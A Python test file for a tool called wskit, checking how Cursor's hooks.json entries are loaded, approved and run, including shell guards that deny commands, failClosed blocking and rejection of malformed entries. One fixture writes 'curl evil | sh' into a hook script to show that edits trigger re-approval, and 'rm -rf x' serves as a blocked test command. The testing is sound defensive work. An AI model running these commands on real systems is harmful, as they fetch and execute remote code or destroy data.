"""Cursor's hooks (``.cursor/hooks.json``) under ``--host cursor`` and the default host:
loaded onto wskit's events, approved entry by entry, run with Cursor's protocol by real
processes (docs/compatibility.md, "Cursor"; :mod:`wskit.builtin_plugins.hooks.cursor`)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conformance.answers import _plugin_manager
from wskit import HostProfile, WorkspaceCache
from wskit.builtin_plugins.hooks.cursor import load_cursor_hooks
from wskit.builtin_plugins.hooks.trust import hook_approval_status
from wskit.models import ResourceSource, Scope
from wskit.trust import TrustStore

_FILE = {
    "version": 1,
    "hooks": {
        "beforeShellExecution": [{"command": "./hooks/shell.sh", "timeout": 5}],
        "preToolUse": [{"command": "./hooks/pre.sh", "matcher": "Shell|Write"}],
        "afterFileEdit": [{"command": "./hooks/fmt.sh"}],
        "stop": [{"command": "./hooks/stop.sh"}],
        "afterAgentResponse": [{"command": "./hooks/log.sh"}],
        "beforeShellExec": [{"command": "./hooks/typo.sh"}],
    },
}


def _workspace(tmp_path: Path, host: str, project_file: dict | None = None, user_file: dict | None = None):
    project, home = tmp_path / "p", tmp_path / "h"
    (project / ".git").mkdir(parents=True)
    home.mkdir()
    if project_file is not None:
        (project / ".cursor").mkdir()
        (project / ".cursor/hooks.json").write_text(json.dumps(project_file))
    if user_file is not None:
        (home / ".cursor").mkdir()
        (home / ".cursor/hooks.json").write_text(json.dumps(user_file))
    TrustStore.for_home(home).grant(project)
    ws = WorkspaceCache(HostProfile(name=host, home=home), _plugin_manager()).resolve(str(project))
    return project, home, ws


@pytest.mark.parametrize("host", ["cursor", "wskit"])
def test_cursor_events_map_onto_wskit_events(tmp_path: Path, host: str):
    project, _home, ws = _workspace(tmp_path, host, project_file=_FILE)
    got = sorted((h.native_event, h.event, h.matcher, h.cwd) for h in ws.registry("hook").active())
    assert got == [("afterFileEdit", "PostToolUse", "Edit|MultiEdit|Write|NotebookEdit", ".cursor"),
                   ("beforeShellExecution", "PreToolUse", "Bash", ".cursor"),
                   ("preToolUse", "PreToolUse", "Bash|Write", ".cursor"),  # Cursor's Shell is wskit's Bash
                   ("stop", "Stop", "", ".cursor")]
    assert all(h.dialect == "cursor" and h.provenance.scope is Scope.PROJECT for h in ws.registry("hook").active())
    codes = {d.code: d.message for d in ws.diagnostics if d.path and d.path.endswith(".cursor/hooks.json")}
    assert "afterAgentResponse" in codes["cursor-hook-unmapped"]
    assert "beforeShellExec" in codes["hook-unknown-event"]


def test_other_hosts_read_no_cursor_hooks(tmp_path: Path):
    _p, _h, ws = _workspace(tmp_path, "claude", project_file=_FILE, user_file=_FILE)
    assert list(ws.registry("hook").active()) == []


def test_a_project_entry_awaits_approval_the_users_own_runs(tmp_path: Path):
    one = {"version": 1, "hooks": {"stop": [{"command": "./hooks/stop.sh"}]}}
    project, home, ws = _workspace(tmp_path, "cursor", project_file=_FILE, user_file=one)
    status = hook_approval_status(home, project, ws.registry("hook").active(), files_root=project)
    states = sorted((r.entry.source, r.state) for r in status.rows)
    assert ("project .cursor/hooks.json", "awaiting") in states and ("user .cursor/hooks.json", "not-required") in states
    assert sum(1 for s, st in states if st == "awaiting") == 4  # one approval per entry


def test_an_approval_covers_the_script_in_the_cursor_folder(tmp_path: Path):
    """The command runs in ``.cursor``: coverage reads ``./hooks/shell.sh`` there, so an
    edit of the script asks again."""
    from wskit.builtin_plugins.hooks.trust import hook_entry

    f = {"version": 1, "hooks": {"beforeShellExecution": [{"command": "./hooks/shell.sh"}]}}
    project, _home, ws = _workspace(tmp_path, "cursor", project_file=f)
    (project / ".cursor/hooks").mkdir()
    (project / ".cursor/hooks/shell.sh").write_text("#!/bin/sh\nexit 0\n")
    (h,) = ws.registry("hook").active()
    entry = hook_entry(h, project)
    assert ".cursor/hooks/shell.sh" in [c.path for c in entry.files] and not entry.unverified
    (project / ".cursor/hooks/shell.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert hook_entry(h, project).files != entry.files


def _user_hooks(home: Path, hooks: dict) -> list:
    cur = home / ".cursor"
    cur.mkdir(parents=True, exist_ok=True)
    (cur / "hooks.json").write_text(json.dumps({"version": 1, "hooks": hooks}))
    src = ResourceSource(scope=Scope.USER, root=str(cur), base=str(cur), follow_links=True,
                         components={"hook": ("hooks.json",)})
    res = load_cursor_hooks(src)
    assert not [d for d in res.diagnostics if d.level == "error"], res.diagnostics
    return list(res.resources)


def test_a_shell_guard_reads_cursors_fields_and_its_deny_blocks(make_session, tmp_path: Path):
    home = tmp_path / "home"
    script = ("cat > seen.json; printf '%s' \"$PWD\" > where.txt; "
              "echo '{\"permission\": \"deny\", \"user_message\": \"not here\", \"agent_message\": \"rm refused\"}'")
    s = make_session(*_user_hooks(home, {"beforeShellExecution": [{"command": script}]}))
    out = s.runtime.hooks.run("PreToolUse", {"tool_name": "Bash", "tool_input": {"command": "rm -rf x"},
                                             "tool_use_id": "t1"})
    assert out.blocked and out.permission_decision == "deny" and out.reason == "rm refused"
    seen = json.loads((home / ".cursor/seen.json").read_text())
    assert seen["hook_event_name"] == "beforeShellExecution" and seen["command"] == "rm -rf x"
    assert seen["workspace_roots"] == [str(s.binding.execution_root)]
    assert (home / ".cursor/where.txt").read_text() == str(home / ".cursor")  # run in hooks.json's folder


def test_a_shell_guard_does_not_see_other_tools(make_session, tmp_path: Path):
    s = make_session(*_user_hooks(tmp_path / "home", {"beforeShellExecution": [{"command": "exit 2"}]}))
    out = s.runtime.hooks.run("PreToolUse", {"tool_name": "Read", "tool_input": {"file_path": "a"},
                                             "tool_use_id": "t2"})
    assert not out.blocked and out.results == []


def test_allow_ask_and_updated_input(make_session, tmp_path: Path):
    reply = {"permission": "ask", "agent_message": "check it", "updated_input": {"command": "ls -l"}}
    s = make_session(*_user_hooks(tmp_path / "home", {"preToolUse": [
        {"command": f"cat >/dev/null; echo '{json.dumps(reply)}'", "matcher": "Shell"}]}))
    out = s.runtime.hooks.run("PreToolUse", {"tool_name": "Bash", "tool_input": {"command": "ls"},
                                             "tool_use_id": "t3"})
    assert out.permission_decision == "ask" and out.reason == "check it"
    assert out.updated_input == {"command": "ls -l"}


def test_prompt_blocked_with_continue_false(make_session, tmp_path: Path):
    s = make_session(*_user_hooks(tmp_path / "home", {"beforeSubmitPrompt": [
        {"command": "cat >/dev/null; echo '{\"continue\": false, \"user_message\": \"secret in prompt\"}'"}]}))
    out = s.runtime.hooks.run("UserPromptSubmit", {"prompt": "my key is sk-1"})
    assert out.blocked and out.reason == "secret in prompt"


def test_stop_followup_message_keeps_the_agent_going(make_session, tmp_path: Path):
    s = make_session(*_user_hooks(tmp_path / "home", {"stop": [
        {"command": "cat >/dev/null; echo '{\"followup_message\": \"run the tests\"}'"}]}))
    out = s.runtime.hooks.run("Stop", {"stop_hook_active": False})
    assert out.blocked and out.reason == "run the tests"


def test_session_start_context_and_plain_stdout_is_not_context(make_session, tmp_path: Path):
    s = make_session(*_user_hooks(tmp_path / "home", {"sessionStart": [
        {"command": "cat >/dev/null; echo '{\"additional_context\": \"use pnpm\"}'"},
        {"command": "echo plain words"}]}))
    out = s.runtime.hooks.run("SessionStart", {"source": "startup"})
    assert out.additional_context == ["use pnpm"]


def test_fail_closed_makes_a_failure_a_block(make_session, tmp_path: Path):
    s = make_session(*_user_hooks(tmp_path / "home", {"beforeShellExecution": [
        {"command": "exit 1", "failClosed": True}], "beforeReadFile": [{"command": "exit 1"}]}))
    shell = s.runtime.hooks.run("PreToolUse", {"tool_name": "Bash", "tool_input": {"command": "ls"},
                                               "tool_use_id": "t4"})
    read = s.runtime.hooks.run("PreToolUse", {"tool_name": "Read", "tool_input": {"file_path": "a"},
                                              "tool_use_id": "t5"})
    assert shell.blocked and "failClosed" in shell.reason
    assert not read.blocked and read.results[0].status == "error"


@pytest.mark.parametrize("entry,code", [
    ({"command": ""}, "hooks-invalid"),
    ({"command": "x", "timeout": -1}, "hooks-invalid"),
    ({"command": "x", "failClosed": "yes"}, "hooks-invalid"),
    ({"command": "x", "matcher": 5}, "hooks-invalid"),
    ({"type": "agent", "command": "x"}, "hook-type-unsupported"),
])
def test_a_bad_entry_is_reported_and_the_others_load(tmp_path: Path, entry, code):
    cur = tmp_path / ".cursor"
    cur.mkdir()
    (cur / "hooks.json").write_text(json.dumps({"version": 1, "hooks": {"stop": [entry, {"command": "ok"}]}}))
    res = load_cursor_hooks(ResourceSource(scope=Scope.PROJECT, root=str(cur), base=str(cur),
                                           components={"hook": ("hooks.json",)}))
    assert [h.command for h in res.resources] == ["ok"]
    assert [d.code for d in res.diagnostics] == [code] and res.diagnostics[0].path.endswith(".cursor/hooks.json")


def test_a_file_that_is_not_cursors_shape_is_an_error(tmp_path: Path):
    cur = tmp_path / ".cursor"
    cur.mkdir()
    (cur / "hooks.json").write_text(json.dumps({"version": 1, "hooks": []}))
    res = load_cursor_hooks(ResourceSource(scope=Scope.PROJECT, root=str(cur), base=str(cur),
                                           components={"hook": ("hooks.json",)}))
    assert res.resources == () and res.diagnostics[0].code == "hooks-invalid"


def test_a_pre_tool_use_hook_reads_cursors_tool_name(make_session, tmp_path: Path):
    """Its matcher says ``Shell`` (Cursor's name, translated to wskit's ``Bash`` to match):
    the ``tool_name`` it reads is Cursor's ``Shell`` again, so a script that checks
    ``tool_name == "Shell"`` (as Cursor's docs write it) fires; a name both share stays."""
    home = tmp_path / "home"
    s = make_session(*_user_hooks(home, {"preToolUse": [{"command": "cat >> seen.jsonl; echo >> seen.jsonl",
                                                          "matcher": "Shell|Read"}]}))
    s.runtime.hooks.run("PreToolUse", {"tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": "t1"})
    s.runtime.hooks.run("PreToolUse", {"tool_name": "Read", "tool_input": {"file_path": "a"}, "tool_use_id": "t2"})
    seen = [json.loads(line) for line in (home / ".cursor/seen.jsonl").read_text().splitlines() if line.strip()]
    assert [(d["hook_event_name"], d["tool_name"]) for d in seen] == [("preToolUse", "Shell"), ("preToolUse", "Read")]
    assert seen[0]["tool_input"] == {"command": "ls"}
